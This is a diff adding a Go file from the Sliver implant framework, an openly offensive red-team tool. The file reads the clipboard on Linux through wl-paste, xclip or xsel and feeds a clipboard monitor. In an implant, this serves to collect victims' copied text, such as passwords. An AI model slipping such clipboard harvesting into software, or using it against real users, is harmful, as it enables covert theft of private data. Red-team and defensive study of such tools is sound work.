@@ -0,0 +1,69 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+)
+
+var (
+	// Clipboard readers by display server, the first one installed is used
+	waylandReaders = [][]string{
+		{"wl-paste", "--no-newline"},
+	}
+	x11Readers = [][]string{
+		{"xclip", "-out", "-selection", "clipboard"},
+		{"xsel", "--clipboard", "--output"},
+	}
+)
+
+// read - Text content of the clipboard, requires a Wayland or X11 session and
+// one of the clipboard utilities
+func read() (string, error) {
+	readers := [][]string{}
+	if os.Getenv("WAYLAND_DISPLAY") != "" {
+		readers = append(readers, waylandReaders...)
+	}
+	if os.Getenv("DISPLAY") != "" {
+		readers = append(readers, x11Readers...)
+	}
+	if len(readers) == 0 {
+		return "", errors.New("No Wayland or X11 display")
+	}
+	for _, reader := range readers {
+		path, err := exec.LookPath(reader[0])
+		if err != nil {
+			continue
+		}
+		output, err := exec.Command(path, reader[1:]...).Output()
+		if err != nil {
+			// Empty clipboards are reported as errors by some tools
+			return "", nil
+		}
+		return string(output), nil
+	}
+	return "", errors.New("No clipboard utility found (wl-paste, xclip or xsel)")
+}
+
+// changeCount - Not tracked, the monitor compares the content instead
+func changeCount() uint32 {
+	return 0
+}